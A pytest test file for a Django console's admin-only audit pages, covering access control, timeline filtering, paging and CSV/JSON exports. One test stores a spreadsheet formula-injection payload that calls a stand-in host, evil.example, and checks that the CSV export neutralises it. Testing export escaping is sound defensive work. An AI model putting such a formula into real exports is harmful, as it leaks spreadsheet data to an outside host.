"""The console's audit pages (admins): the timeline, destroyed binaries, and exports."""

import csv
import io
import json
import re
from datetime import timedelta
from html import unescape

import pytest
from django.urls import reverse
from django.utils import timezone

from binaries import moves, timeline
from binaries.models import BinaryEvent
from peridio_console.accounts.actors import Actor
from peridio_console.accounts.models import AuditEvent
from tests.console_helpers import logged_in, verified_binary


@pytest.fixture
def destroyed(version, engineer_membership):
    binary = verified_binary("signable", version, target="arm-linux-gnueabihf")
    moves.request_state(
        binary=binary,
        to="destroyed",
        actor=Actor.for_user(engineer_membership.user),
        reason="Leaked debug symbols <oops>",
    )
    return binary


def ids_on_page(html: str) -> list[str]:
    return re.findall(r'<tr id="((?:be|ae)_\d+)">', html)


def export_href(html: str, fmt: str) -> str:
    path = reverse(f"console:audit_export_{fmt}")
    return unescape(re.search(rf'href="({re.escape(path)}\?[^"]*)"', html).group(1))


def test_it_is_for_admins_only(
    client, admin, engineer_membership, viewer_membership, destroyed, admin_membership
):
    urls = [
        reverse("console:audit"),
        reverse("console:audit_destroyed"),
        reverse("console:audit_export_csv"),
        reverse("console:audit_export_json"),
    ]
    for url in urls:
        assert admin.get(url).status_code == 200, url
        for membership in (engineer_membership, viewer_membership):
            assert logged_in(membership).get(url).status_code == 403, url
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))
    assert b">Audit</a>" in admin.get(reverse("dashboard")).content
    engineer_home = logged_in(engineer_membership).get(reverse("dashboard"))
    assert b">Audit</a>" not in engineer_home.content


def test_it_shows_destroyed_binaries_with_who_when_and_why(admin, destroyed, engineer_membership):
    response = admin.get(reverse("console:audit_destroyed"))
    html = response.content.decode()
    event = BinaryEvent.objects.get(binary=destroyed, to_state="destroyed")
    assert ids_on_page(html) == [f"be_{event.pk}"]
    assert reverse("console:binary_detail", args=[destroyed.uuid]) in html
    assert "arm-linux-gnueabihf" in html
    assert destroyed.artifact_version.artifact.name in html
    assert engineer_membership.user.username in html
    assert "Leaked debug symbols &lt;oops&gt;" in html
    assert "<oops>" not in html


def test_it_filters_the_timeline(admin, destroyed, admin_membership, org):
    AuditEvent.objects.create(
        organization=org, actor_label="ci-bot", action="api_key.created", details={"a": 1}
    )
    url = reverse("console:audit")
    everything = ids_on_page(admin.get(url).content.decode())
    assert len(everything) == 5  # 4 moves of the binary and the API key

    only = ids_on_page(admin.get(url, {"action": "binary.destroyed"}).content.decode())
    assert len(only) == 1
    by_bot = admin.get(url, {"actor": "ci-bot"}).content.decode()
    assert len(ids_on_page(by_bot)) == 1
    assert "api_key.created" in by_bot
    about = ids_on_page(admin.get(url, {"object": destroyed.prn}).content.decode())
    assert len(about) == 4
    later = (timezone.now() + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")
    assert ids_on_page(admin.get(url, {"since": later}).content.decode()) == []
    assert len(ids_on_page(admin.get(url, {"until": later}).content.decode())) == 5


def test_it_explains_bad_filters(admin, destroyed):
    response = admin.get(reverse("console:audit"), {"object": "prn:nonsense"})
    assert response.status_code == 200
    assert b"object:" in response.content
    assert ids_on_page(response.content.decode()) == []
    response = admin.get(reverse("console:audit"), {"since": "yesterday"})
    assert b'id="id_since_error"' in response.content
    assert admin.get(reverse("console:audit_export_csv"), {"since": "x"}).status_code == 400


def test_it_exports_what_the_filtered_view_shows(admin, destroyed, org):
    AuditEvent.objects.create(organization=org, actor_label="ci-bot", action="api_key.created")
    for query in ({}, {"action": "binary.destroyed"}, {"actor": "ci-bot"}):
        html = admin.get(reverse("console:audit"), query).content.decode()
        shown = ids_on_page(html)

        response = admin.get(export_href(html, "csv"))
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [row["id"] for row in rows] == shown[::-1]  # the export is oldest first

        response = admin.get(export_href(html, "json"))
        data = json.loads(b"".join(response.streaming_content))
        assert [entry["id"] for entry in data["audit_events"]] == shown[::-1]


def test_it_exports_the_destroyed_view(admin, destroyed):
    html = admin.get(reverse("console:audit_destroyed")).content.decode()
    response = admin.get(export_href(html, "csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    assert rows[0]["action"] == "binary.destroyed"
    assert rows[0]["reason"] == "Leaked debug symbols <oops>"
    assert rows[0]["object_prn"] == destroyed.prn


def test_it_exports_a_reason_that_looks_like_a_formula_as_text(admin, version, actor):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    binary = verified_binary("signable", version)
    moves.reset(binary=binary, actor=actor, reason=formula)

    html = admin.get(reverse("console:audit"), {"action": "binary.uploadable"}).content.decode()
    response = admin.get(export_href(html, "csv"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert [row["reason"] for row in rows] == ["'" + formula]


def test_it_pages_the_timeline(admin, org):
    for n in range(60):
        AuditEvent.objects.create(organization=org, actor_label=f"bot-{n}", action="x.y")
    html = admin.get(reverse("console:audit")).content.decode()
    first = ids_on_page(html)
    assert len(first) == 50
    next_href = unescape(re.search(r'href="(\?[^"]*)" rel="next"', html).group(1))
    second = ids_on_page(admin.get(reverse("console:audit") + next_href).content.decode())
    assert len(second) == 10
    assert not set(first) & set(second)
    expected = [e["id"] for e in timeline.iterate(org, timeline.Filters())]
    assert first + second == expected[::-1]


def test_it_shows_nothing_of_another_organization(outsider_membership, destroyed):
    client = logged_in(outsider_membership)
    html = client.get(reverse("console:audit")).content.decode()
    assert destroyed.prn not in html
    assert ids_on_page(html) == []
    assert ids_on_page(client.get(reverse("console:audit_destroyed")).content.decode()) == []


@pytest.mark.parametrize(
    ("since", "shown"),
    [
        ("2024-01-15T10:30:00-18:10", True),  # ISO allows it; PostgreSQL's offsets stop at 15:59
        ("0001-01-01T00:00:00+05:00", False),  # before year 1 once in UTC
        ("2024-01-15T10:30", True),  # what the browser's date-time field sends: UTC
    ],
)
def test_it_reads_any_offset_in_the_date_filters_as_utc(admin, destroyed, since, shown):
    for view in ("console:audit", "console:audit_destroyed"):
        response = admin.get(reverse(view), {"since": since})
        assert response.status_code == 200
        html = response.content.decode()
        if shown:
            assert 'id="id_since_error"' not in html
        else:
            assert 'id="id_since_error"' in html
            assert "out of range once converted to UTC" in html
    export = admin.get(reverse("console:audit_export_csv"), {"since": since})
    assert export.status_code == (200 if shown else 400)


def test_it_shows_where_a_destroy_came_from(admin, version, engineer_membership):
    binary = verified_binary("signable", version, target="x86_64-linux-gnu")
    actor = Actor.for_user(engineer_membership.user).via("cli", "peridio-cli/0.9.0")
    moves.request_state(
        binary=binary, to="destroyed", actor=actor.with_ip("192.0.2.7"), reason="recalled"
    )

    html = admin.get(reverse("console:audit_destroyed")).content.decode()

    assert "recalled" in html
    assert "cli" in html and "192.0.2.7" in html and "peridio-cli/0.9.0" in html
    assert "From where" in html


def test_it_filters_by_source_and_refuses_an_unknown_action_or_source(admin, destroyed, org):
    AuditEvent.objects.create(
        organization=org, actor_label="bot", action="api_key.created", source="cli"
    )
    url = reverse("console:audit")

    from_cli = admin.get(url, {"source": "cli"}).content.decode()
    assert len(ids_on_page(from_cli)) == 1 and "api_key.created" in from_cli
    for bad in ({"action": "binary.guessed"}, {"source": "web"}):
        response = admin.get(url, bad)
        assert response.status_code == 200
        assert ids_on_page(response.content.decode()) == []
        assert b"Select a valid choice" in response.content
        assert admin.get(reverse("console:audit_export_csv"), bad).status_code == 400
    # The action list is the enum's, every action offered once.
    options = re.findall(r'<option value="([a-z_.]+)"', admin.get(url).content.decode())
    assert "binary.upload_cleaned" in options and "artifact.deleted" in options
